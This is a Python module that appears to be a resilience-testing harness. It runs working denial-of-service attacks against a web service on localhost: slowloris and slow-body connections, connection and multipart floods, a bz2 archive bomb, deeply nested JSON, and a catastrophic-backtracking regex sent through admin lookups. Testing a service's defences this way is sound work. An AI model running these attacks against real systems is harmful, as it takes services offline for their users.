"""Attacks on a service on this computer: slow, wide and deep ones, each from an address of its own.

An attack is a function that runs until its process is ended. It ignores the answers.
"""

from __future__ import annotations

import bz2
import io
import re
import socket
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from functools import cache
from itertools import count
from tarfile import TarInfo

import requests
from PIL import Image

CONNECTIONS = 200
THREADS = 4  # of an attack that repeats a request
PAUSE = 0.5  # seconds between two bytes of a slow client
RETRY_SECONDS = 0.05  # after a connection that was refused
PARTS = 1500
BATCH_IMAGES = 50
BOMB_MIB = 1000
CSRF_TOKEN = "a" * 32
# Few names of files make the pattern backtrack for seconds.
SLOW_NAME, SLOW_PATTERN = "a" * 26 + "!.jpg", "^(a+)+$"
LARGE_FILE = "/static/drf_spectacular_sidecar/swagger-ui-dist/swagger-ui-bundle.js"
PART = '--b\r\nContent-Disposition: form-data; name="{}"; filename="{}"\r\n\r\n'

_numbers = count()


@dataclass(frozen=True, slots=True)
class Target:
    """The service, and what an attacker may have: a token, and a session of the admin."""

    port: int
    token: str
    session: dict[str, str]

    def connect(self, address: str) -> socket.socket:
        connection = socket.create_connection(
            ("127.0.0.1", self.port), timeout=5, source_address=(address, 0)
        )
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        return connection

    def head(self, start: str, *lines: str) -> bytes:
        return "\r\n".join([f"{start} HTTP/1.1", "Host: 127.0.0.1", *lines, "", ""]).encode()

    def browser(self, address: str) -> requests.Session:
        session = client(address)
        session.cookies.update(self.session)
        return session

    def program(self, address: str) -> requests.Session:
        session = client(address)
        session.headers["Authorization"] = f"Bearer {self.token}"
        return session

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}"


Attack = Callable[[Target, str], None]  # the target, and the attacker's address


class _SourceAddress(requests.adapters.HTTPAdapter):
    """Connect from an address of this computer."""

    def __init__(self, address: str) -> None:
        self._address = address
        super().__init__()

    def init_poolmanager(self, *arguments: object, **options: object) -> None:
        super().init_poolmanager(*arguments, source_address=(self._address, 0), **options)


def client(address: str) -> requests.Session:
    session = requests.Session()
    session.mount("http://", _SourceAddress(address))
    return session


def picture(size: int = 64) -> bytes:
    """Return a JPEG that the service does not know."""
    buffer = io.BytesIO()
    number = time.time_ns() + next(_numbers)
    tile = Image.frombytes("RGB", (4, 4), number.to_bytes(48, "big"))
    tile.resize((size, size), Image.Resampling.NEAREST).save(buffer, "JPEG")
    return buffer.getvalue()


# Slow


def _hold(target: Target, address: str, opening: bytes, drip: bytes = b"") -> None:
    """Hold many connections, and reopen those that the service closed."""
    held: list[socket.socket] = []
    while True:
        held = [connection for connection in held if _is_held(connection, drip)]
        while len(held) < CONNECTIONS:
            try:
                connection = target.connect(address)
                connection.sendall(opening)
            except OSError:
                time.sleep(RETRY_SECONDS)
                break
            connection.settimeout(0)
            held.append(connection)
        time.sleep(PAUSE)


def _is_held(connection: socket.socket, drip: bytes) -> bool:
    """Send a byte. A connection whose answer is unread counts as held until it is broken."""
    try:
        if drip:
            connection.send(drip)
        else:
            connection.getpeername()
        if connection.recv(1, socket.MSG_PEEK) == b"":
            connection.close()
            return False
    except BlockingIOError:
        return True
    except OSError:
        connection.close()
        return False
    return True


def slow_heads(target: Target, address: str) -> None:
    _hold(target, address, b"GET /health/live HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ", b"x")


def slow_next_heads(target: Target, address: str) -> None:
    whole = target.head("GET /health/live")
    _hold(target, address, whole + whole[:20], b"x")


def slow_forms(target: Target, address: str) -> None:
    kind = "Content-Type: application/x-www-form-urlencoded"
    head = target.head("POST /sign-in/", kind, "Content-Length: 100000")
    _hold(target, address, head + b"username=", b"x")


def slow_images(target: Target, address: str) -> None:
    _hold(target, address, unfinished_image(target), b"x")


def unfinished_image(target: Target) -> bytes:
    head = target.head(
        "POST /api/predict/",
        f"Authorization: Bearer {target.token}",
        "Content-Type: multipart/form-data; boundary=b",
        "Content-Length: 1000000",
    )
    return head + PART.format("image", "a.jpg").encode()


def unread_answers(target: Target, address: str) -> None:
    _hold(target, address, target.head(f"GET {LARGE_FILE}"))


def slow_closing(target: Target, address: str) -> None:
    """Stay connected after the last answer, which is read."""
    held: list[socket.socket] = []
    last = target.head("GET /health/live", "Connection: close")
    while True:
        with suppress(OSError):
            connection = target.connect(address)
            connection.sendall(last)
            held.append(connection)
        for old in held[:-CONNECTIONS]:
            old.close()
        held = held[-CONNECTIONS:]
        time.sleep(0.01)


# Wide


def _repeat(attack: Callable[[], object]) -> None:
    """Attack in several threads, without end."""

    def run() -> None:
        while True:
            try:
                attack()
            except (OSError, requests.RequestException):
                time.sleep(RETRY_SECONDS)

    for _ in range(THREADS):
        threading.Thread(target=run, daemon=True).start()
    threading.Event().wait()


def many_connections(target: Target, address: str) -> None:
    def attack() -> None:
        with target.connect(address) as connection:
            connection.sendall(target.head("GET /health/live", "Connection: close"))
            connection.recv(100)

    _repeat(attack)


def many_parts(target: Target, address: str) -> None:
    """Send a form of 2 KiB parts, whose sender is unknown until it is read."""
    parts = b"".join(
        PART.format("images", number).encode() + bytes(2048) + b"\r\n" for number in range(PARTS)
    )
    session = client(address)
    session.headers.update(
        {
            "Content-Type": "multipart/form-data; boundary=b",
            "Cookie": f"csrftoken={CSRF_TOKEN}",
            "X-CSRFToken": CSRF_TOKEN,
            "Connection": "close",
        }
    )
    body = parts + b"--b--\r\n"
    _repeat(lambda: session.post(target.url("/admin/"), data=body, timeout=60))


def parallel_batches(target: Target, address: str) -> None:
    session = target.program(address)

    def attack() -> None:
        files = [("images", (f"{n}.jpg", picture())) for n in range(BATCH_IMAGES)]
        session.post(target.url("/api/batches/"), files=files, timeout=60)

    _repeat(attack)


# Deep


def archive_bombs(target: Target, address: str) -> None:
    session = target.program(address)
    packed = bomb()

    def attack() -> None:
        files = {"archive": ("bomb.tar.bz2", packed)}
        session.post(target.url("/api/batches/"), files=files, timeout=120)

    _repeat(attack)


@cache
def bomb() -> bytes:
    """Return a tar.bz2 of some kilobytes whose one member has a gibibyte of zeros."""
    member = TarInfo("large.jpg")
    member.size = BOMB_MIB * 2**20
    packer = bz2.BZ2Compressor(9)
    packed = [packer.compress(member.tobuf())]
    packed += [packer.compress(bytes(2**20)) for _ in range(BOMB_MIB)]
    packed.append(packer.compress(bytes(1024)))
    return b"".join([*packed, packer.flush()])


def nested_json(target: Target, address: str) -> None:
    session = target.program(address)
    session.headers["Content-Type"] = "application/json"
    body = b'{"a":' * 100_000 + b"1" + b"}" * 100_000

    def attack() -> None:
        for path in ("/api/predict/", "/api/batches/", "/sign-in/"):
            session.post(target.url(path), data=body, timeout=60)

    _repeat(attack)


def regex_lookups(target: Target, address: str) -> None:
    """Send lookups to the admin with a pattern that takes for ever on a name."""
    session = target.browser(address)
    pages = ("/admin/detection/prediction/", "/admin/detection/predictionbatch/", "/history/")

    def attack() -> None:
        for page in pages:
            found = {"original_filename__regex": SLOW_PATTERN}
            session.get(target.url(page), params=found, timeout=120)

    _repeat(attack)


ATTACKS: dict[str, list[Attack]] = {
    "slow heads": [slow_heads, slow_next_heads],
    "slow bodies": [slow_forms, slow_images],
    "unread answers": [unread_answers],
    "closing slowly": [slow_closing],
    "many connections": [many_connections],
    "many parts": [many_parts],
    "parallel batches": [parallel_batches],
    "archive bombs": [archive_bombs],
    "nested JSON": [nested_json],
    "regex lookups": [regex_lookups],
}
ATTACKS["all at once"] = [attack for attacks in ATTACKS.values() for attack in attacks]


def upload_slow_name(target: Target) -> None:
    files = {"image": (SLOW_NAME, picture())}
    session = target.program("127.0.0.1")
    session.post(target.url("/api/predict/"), files=files, timeout=60).raise_for_status()


def sign_in(port: int, name: str, password: str) -> dict[str, str]:
    """Return the cookies of a browser that signed in. Raises RuntimeError if it could not."""
    session = client("127.0.0.1")
    url = f"http://127.0.0.1:{port}/sign-in/"
    [token] = re.findall(r'csrfmiddlewaretoken" value="(\w+)"', session.get(url, timeout=60).text)
    form = {"username": name, "password": password, "csrfmiddlewaretoken": token}
    session.post(url, data=form, timeout=60, allow_redirects=False)
    if "sessionid" not in session.cookies:
        raise RuntimeError(f"{name} could not sign in.")
    return session.cookies.get_dict()
